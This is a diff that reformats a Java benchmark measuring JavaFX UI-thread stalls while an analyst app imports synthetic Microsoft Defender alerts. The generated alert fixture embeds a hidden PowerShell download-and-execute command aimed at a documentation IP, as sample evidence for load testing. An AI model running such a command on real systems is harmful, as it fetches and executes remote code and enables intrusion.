@@ -49,11 +49,17 @@ public final class StallMeasure {
         Thread.sleep(3_000);
         List<Long> idle = beat(() -> Thread.sleep(3_000));
         long begin = System.nanoTime();
-        List<Long> busy = beat(() -> {
-            session.imports().commit(session.imports().plan(List.of(export), Progress.NONE), "analyst", Progress.NONE);
-            session.awaitIdle();
-        });
-        System.out.printf("%d alerts, %d investigations in %.1f s%n", session.desk().status().alerts(), session.desk().investigations().size(), (System.nanoTime() - begin) / 1e9);
+        List<Long> busy =
+                beat(() -> {
+                    session.imports()
+                            .commit(session.imports().plan(List.of(export), Progress.NONE), "analyst", Progress.NONE);
+                    session.awaitIdle();
+                });
+        System.out.printf(
+                "%d alerts, %d investigations in %.1f s%n",
+                session.desk().status().alerts(),
+                session.desk().investigations().size(),
+                (System.nanoTime() - begin) / 1e9);
         print("idle", idle);
         print("investigating", busy);
         session.close();
@@ -69,23 +75,26 @@ public final class StallMeasure {
         var gaps = Collections.synchronizedList(new ArrayList<Long>());
         var on = new AtomicBoolean(true);
         var last = new AtomicLong(System.nanoTime());
-        Thread pulse = Thread.ofPlatform().daemon().start(() -> {
-            while (on.get()) {
-                var turn = new CountDownLatch(1);
-                long asked = System.nanoTime();
-                Platform.runLater(() -> {
-                    gaps.add((System.nanoTime() - asked) / 1_000);
-                    last.set(System.nanoTime());
-                    turn.countDown();
-                });
-                try {
-                    turn.await();
-                    Thread.sleep(2);
-                } catch (InterruptedException _) {
-                    return;
-                }
-            }
-        });
+        Thread pulse =
+                Thread.ofPlatform()
+                        .daemon()
+                        .start(() -> {
+                            while (on.get()) {
+                                var turn = new CountDownLatch(1);
+                                long asked = System.nanoTime();
+                                Platform.runLater(() -> {
+                                    gaps.add((System.nanoTime() - asked) / 1_000);
+                                    last.set(System.nanoTime());
+                                    turn.countDown();
+                                });
+                                try {
+                                    turn.await();
+                                    Thread.sleep(2);
+                                } catch (InterruptedException _) {
+                                    return;
+                                }
+                            }
+                        });
         work.run();
         on.set(false);
         pulse.join();
@@ -94,8 +103,15 @@ public final class StallMeasure {
 
     private static void print(String name, List<Long> gaps) {
         List<Long> sorted = gaps.stream().sorted().toList();
-        System.out.printf("%-14s turns %6d  p50 %.1f ms  p99 %.1f ms  p99.9 %.1f ms  max %.1f ms  over 50 ms: %d%n", name, sorted.size(),
-                at(sorted, 0.5), at(sorted, 0.99), at(sorted, 0.999), at(sorted, 1), sorted.stream().filter(g -> g > 50_000).count());
+        System.out.printf(
+                "%-14s turns %6d  p50 %.1f ms  p99 %.1f ms  p99.9 %.1f ms  max %.1f ms  over 50 ms: %d%n",
+                name,
+                sorted.size(),
+                at(sorted, 0.5),
+                at(sorted, 0.99),
+                at(sorted, 0.999),
+                at(sorted, 1),
+                sorted.stream().filter(g -> g > 50_000).count());
     }
 
     private static double at(List<Long> sorted, double share) {
@@ -108,9 +124,26 @@ public final class StallMeasure {
         for (int i = 0; i < ALERTS; i++) {
             int incident = i / 4;
             String host = "ws-%04d".formatted(incident);
-            lines.add("""
-                    {"@odata.type":"#microsoft.graph.security.alert","id":"da%d","incidentId":"%d","title":"Suspicious script %d","severity":"medium","status":"new","category":"Execution","serviceSource":"microsoftDefenderForEndpoint","createdDateTime":"%s","firstActivityDateTime":"%s","evidence":[{"@odata.type":"#microsoft.graph.security.deviceEvidence","deviceDnsName":"%s","mdeDeviceId":"%040x","verdict":"suspicious"},{"@odata.type":"#microsoft.graph.security.processEvidence","processId":%d,"processCreationDateTime":"%s","processCommandLine":"powershell.exe -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://198.51.100.%d/a')","mdeDeviceId":"%040x","imageFile":{"fileName":"powershell.exe","filePath":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0","sha256":"%064x"}},{"@odata.type":"#microsoft.graph.security.fileEvidence","mdeDeviceId":"%040x","fileDetails":{"fileName":"x%d.exe","filePath":"C:\\\\Users\\\\u\\\\AppData\\\\Local\\\\Temp","sha256":"%064x"}}]}"""
-                    .formatted(i, incident, i, start.plusSeconds(i * 30L), start.plusSeconds(i * 30L), host, incident + 1, 4000 + i, start.plusSeconds(i * 30L), i % 250, incident + 1, 77, incident + 1, i, 1000 + i));
+            lines.add(
+                    """
+                    {"@odata.type":"#microsoft.graph.security.alert","id":"da%d","incidentId":"%d","title":"Suspicious script %d","severity":"medium","status":"new","category":"Execution","serviceSource":"microsoftDefenderForEndpoint","createdDateTime":"%s","firstActivityDateTime":"%s","evidence":[{"@odata.type":"#microsoft.graph.security.deviceEvidence","deviceDnsName":"%s","mdeDeviceId":"%040x","verdict":"suspicious"},{"@odata.type":"#microsoft.graph.security.processEvidence","processId":%d,"processCreationDateTime":"%s","processCommandLine":"powershell.exe -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://198.51.100.%d/a')","mdeDeviceId":"%040x","imageFile":{"fileName":"powershell.exe","filePath":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0","sha256":"%064x"}},{"@odata.type":"#microsoft.graph.security.fileEvidence","mdeDeviceId":"%040x","fileDetails":{"fileName":"x%d.exe","filePath":"C:\\\\Users\\\\u\\\\AppData\\\\Local\\\\Temp","sha256":"%064x"}}]}\
+                    """
+                            .formatted(
+                                    i,
+                                    incident,
+                                    i,
+                                    start.plusSeconds(i * 30L),
+                                    start.plusSeconds(i * 30L),
+                                    host,
+                                    incident + 1,
+                                    4000 + i,
+                                    start.plusSeconds(i * 30L),
+                                    i % 250,
+                                    incident + 1,
+                                    77,
+                                    incident + 1,
+                                    i,
+                                    1000 + i));
         }
         Files.write(file, lines);
     }
